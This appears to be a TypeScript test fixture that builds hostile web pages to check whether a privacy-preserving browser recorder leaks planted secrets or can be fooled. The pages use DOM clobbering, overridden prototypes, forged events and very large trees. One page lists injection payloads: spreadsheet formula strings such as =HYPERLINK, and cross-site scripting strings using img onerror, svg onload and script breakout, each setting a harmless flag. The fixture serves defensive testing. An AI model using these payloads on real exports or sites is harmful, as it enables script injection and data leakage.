/** Pages that work against a recorder: clobbered forms, bent prototypes, forged events, huge trees, payloads. */
import type { PrivacyPage } from '../suite/page.ts'

const CLOBBERED = [
  'closest',
  'matches',
  'type',
  'attributes',
  'value',
  'getAttribute',
  'parentNode',
  'localName',
  'labels',
  'children',
  'id',
  'tagName',
  'isContentEditable',
]

export const HOSTILE_PAGES: PrivacyPage[] = [
  {
    name: 'a form whose controls take the names of DOM properties',
    covers: ['mutations', 'P29', 'input events'],
    body: (
      plant,
    ) => `<form id="f" aria-label="${plant('attribute')}">${CLOBBERED.map((name) => `<input name="${name}" value="${plant('hidden')}">`).join('')}<input id="p" type="password" name="nodeType"><h2>${plant('page-text')}</h2>
      <button id="b" name="textContent">Save</button></form><img name="body" alt="${plant('attribute')}"><form name="documentElement"><input name="lang" value="${plant('hidden')}"><button id="c">${plant('page-text')}</button></form><a id="x"></a><a id="x" name="querySelectorAll" href="#">${plant('page-text')}</a>`,
    drive: async ({ tab, plant }) => {
      for (const field of ['[name=closest]', '[name=value]', '#p']) {
        await tab.mouse.click(...(await middleOf(tab, field)))
        await tab.keyboard.type(plant('typed'))
      }
      for (const each of ['h2', '#b', '#c', '[name=querySelectorAll]', '#done']) await tab.mouse.click(...(await middleOf(tab, each)))
    },
    words: ['Save'],
  },
  {
    name: 'a page that has bent the prototypes of its world',
    covers: ['mutations', 'P26', 'full snapshot'],
    head: (
      plant,
    ) => `<script>for (const name of ['getAttribute', 'closest', 'matches', 'hasAttribute']) Element.prototype[name] = () => '${plant('page-text')}'
      Object.defineProperty(Element.prototype, 'localName', { get: () => 'button' }); String.prototype.replace = function () { return '${plant('page-text')}' }; Array.prototype.push = function () { return 0 }
      Object.prototype.name = '${plant('page-text')}'; Object.prototype.toJSON = () => '${plant('page-text')}'; RegExp.prototype.test = () => true; Set.prototype.has = () => true; JSON.stringify = () => '${plant('page-text')}'
      Object.defineProperty(HTMLElement.prototype, 'isContentEditable', { get: () => false }); Event.prototype.composedPath = () => []; EventTarget.prototype.addEventListener = function () {}; window.chrome = { runtime: { id: 'x', sendMessage: (m) => m } }</script>`,
    body: (plant) =>
      `<input id="a"><div id="b" contenteditable>${plant('hidden')}</div><button id="c">${plant('page-text')}</button><button id="d">Save</button>`,
    drive: async ({ tab, plant }) => {
      for (const field of ['#a', '#b']) {
        await tab.mouse.click(...(await middleOf(tab, field)))
        await tab.keyboard.type(plant('typed'))
      }
      for (const each of ['#c', '#d', '#done']) await tab.mouse.click(...(await middleOf(tab, each)))
    },
  },
  {
    name: 'events that a script makes up',
    covers: ['keys', 'input events', 'P26'],
    body: (plant) => `<input id="a" value="${plant('hidden')}"><button id="b">${plant('page-text')}</button><button id="c">Refresh</button>
      <script>c.onclick = () => { for (const type of ['pointerdown', 'click', 'dblclick', 'contextmenu']) b.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, detail: 1 }))
        b.click(); for (const key of '${plant('typed')}') a.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, ctrlKey: true })); a.dispatchEvent(new InputEvent('input', { bubbles: true, data: a.value, inputType: 'insertText' }))
        dispatchEvent(new CustomEvent('waymark', { detail: '${plant('page-text')}' })); postMessage({ type: 'hello', text: '${plant('page-text')}' }, '*'); postMessage({ type: 'actions', document: crypto.randomUUID(), actions: ['${plant('page-text')}'], counts: {} }, '*') }</script>`,
    drive: async ({ tab, click }) => {
      await click('#c')
      await tab.evaluate(() => document.querySelector('button')?.click())
    },
    check: (actions) => (actions.filter(({ kind }) => kind === 'click').length > 2 ? 'a click that nobody made' : null),
    words: ['Refresh'],
  },
  {
    name: 'a name of a megabyte, five thousand elements deep, and a thousand beside',
    covers: ['full snapshot', 'accessible name'],
    body: (
      plant,
    ) => `<button id="a"></button><button id="b"></button><div id="c"></div><div id="h" hidden></div><ul id="d"></ul><button id="e">Close</button>
      <script>a.textContent = '${plant('page-text')} '.repeat(60000); a.style.cssText = 'height:30px;width:100px;overflow:hidden;display:block'; b.textContent = 'Open'; b.setAttribute('aria-label', '${plant('attribute')} '.repeat(60000)); b.id = 'b'; b.title = '${plant('attribute')}'.repeat(60000)
        let at = c; for (let i = 0; i < 400; i++) at = at.appendChild(document.createElement('div')); let deep = h; for (let i = 0; i < 5000; i++) deep = deep.appendChild(document.createElement('div')); at.innerHTML = '<button id="z" data-testid="${plant('identifier')}">${plant('page-text')}</button>'
        for (let i = 0; i < 1000; i++) d.insertAdjacentHTML('beforeend', '<li><button>${plant('page-text')}</button></li>')
        document.documentElement.setAttribute('data-huge', '${plant('attribute')}'.repeat(60000))</script>`,
    drive: async ({ tab, click }) => {
      await click('#a', '#b')
      await tab.mouse.click(...(await middleOf(tab, '#z')))
      await click('li button', '#e')
    },
    words: ['Close'],
  },
  {
    name: 'payloads for whoever shows, opens or parses the record',
    covers: ['errors and console', 'split and encoded text', 'P28'],
    body: (plant) => {
      const texts = [
        `=HYPERLINK("http://x/${plant('page-text')}","Open")`,
        `+${plant('page-text')}`,
        `-${plant('page-text')}`,
        `@SUM(${plant('page-text')})`,
        `<img src=x onerror="globalThis.__pwned=1">${plant('page-text')}`,
        `</script><script>globalThis.__pwned=1//${plant('page-text')}`,
        `Save\u2028${plant('page-text')}`,
        `\u202e${plant('page-text')}\u202c`,
        `Sa\u200bve ${plant('page-text')}`,
        `Open\ud800 ${plant('page-text')}`,
        `\${globalThis.__pwned=1}${plant('page-text')}`,
        `{{constructor.constructor('globalThis.__pwned=1')()}}`,
        '"><svg onload=globalThis.__pwned=1>',
        'javascript:globalThis.__pwned=1',
        '=1+1',
        'Sa\u200bve',
        '\u202eevaS',
        'Save\u0000',
        '⟦button·4-8⟧',
        'Save\u2028Close',
        'Open\ud800',
        '<b>Save</b>',
        '+Add',
        '@Team',
      ]
      return `<div id="box"></div><button id="e">Close</button><script>const texts = ${JSON.stringify(texts).replaceAll('<', '\\u003c').replaceAll('\u2028', '\\u2028')}
        texts.forEach((text, i) => { const b = document.createElement('button'); b.className = 'p'; b.textContent = text; b.setAttribute('data-testid', text); box.append(b) })</script>`
    },
    drive: async ({ tab, click }) => {
      const count = await tab.locator('.p').count()
      for (let index = 0; index < count; index++) await tab.mouse.click(...(await middleOf(tab, '.p', index)))
      await click('#e')
    },
    words: ['Close'],
  },
  {
    name: 'a page that changes its text as soon as somebody points at it',
    covers: ['mutations', 'P17', 'echo of typing'],
    body: (
      plant,
    ) => `<input id="a"><button id="b">Save</button><button id="c">Close</button><script>b.onpointerdown = () => { b.textContent = a.value || '${plant('page-text')}'; b.setAttribute('aria-label', a.value) }; b.onpointerenter = () => { b.title = a.value }
      c.onpointerdown = () => { const d = document.createElement('button'); d.textContent = '${plant('name-of-person')}'; c.replaceWith(d) }</script>`,
    drive: async ({ tab, type, click }) => {
      await type('#a')
      await click('#b', '#b')
      await tab.mouse.click(...(await middleOf(tab, '#c')))
    },
  },
  {
    name: 'wording that holds a name between words of interfaces, and words made of letters that look alike',
    covers: ['split and encoded text', 'accessible name', 'P18'],
    body: (
      plant,
    ) => `<button id="a">Save ${plant('name-of-person')}</button><button id="b">Edit ${plant('name-of-person')} profile</button><button id="c">Open-${plant('page-text')}</button><button id="d">Send to ${plant('name-of-person')}'s team</button>
      <button id="f">S\u0430ve ${plant('page-text')}</button><button id="g">${plant('page-text').split('').join(' ')}</button><button id="h">${plant('page-text').split('').join('\u200d')}</button><button id="i">${plant('page-text').replace(/./g, (letter) => String.fromCodePoint(0xfee0 + letter.charCodeAt(0)))}</button>
      <button id="j">3 of 12</button><button id="k">${plant.digits('page-text', '83724651')} results</button><button id="l">Save</button><button id="m">Total 4310</button><h2 id="n">Room 482</h2><a href="#" id="o">Page 1 of 3 in 12</a>`,
    drive: ({ click }) => click('#a', '#b', '#c', '#d', '#f', '#g', '#h', '#i', '#j', '#k', '#l', '#m', '#n', '#o'),
    words: ['Save', '3 of 12'],
    // Too short to be a secret that could be searched for; where everything may stay, numbers of three digits may too.
    check: (actions) => {
      const isStrict = actions.some(({ masking }) => masking.some(({ rule }) => rule === 'unknown-word'))
      return isStrict && actions.some(({ target }) => /\d{3}|1 of 3 in/.test(target?.name ?? '')) ? 'a number that is no counter' : null
    },
  },
]

/** Middle of an element by the browser's protocol, which no script of the page can bend. */
async function middleOf(tab: Parameters<PrivacyPage['drive']>[0]['tab'], selector: string, index = 0): Promise<[number, number]> {
  const session = await tab.context().newCDPSession(tab)
  const { root } = await session.send('DOM.getDocument', { depth: 0 })
  const { nodeIds } = await session.send('DOM.querySelectorAll', { nodeId: root.nodeId, selector })
  const nodeId = nodeIds[index] ?? 0
  await session.send('DOM.scrollIntoViewIfNeeded', { nodeId })
  const { model } = await session.send('DOM.getBoxModel', { nodeId })
  await session.detach()
  const [left = 0, top = 0, , , right = 0, bottom = 0] = model.content
  return [(left + right) / 2, (top + bottom) / 2]
}
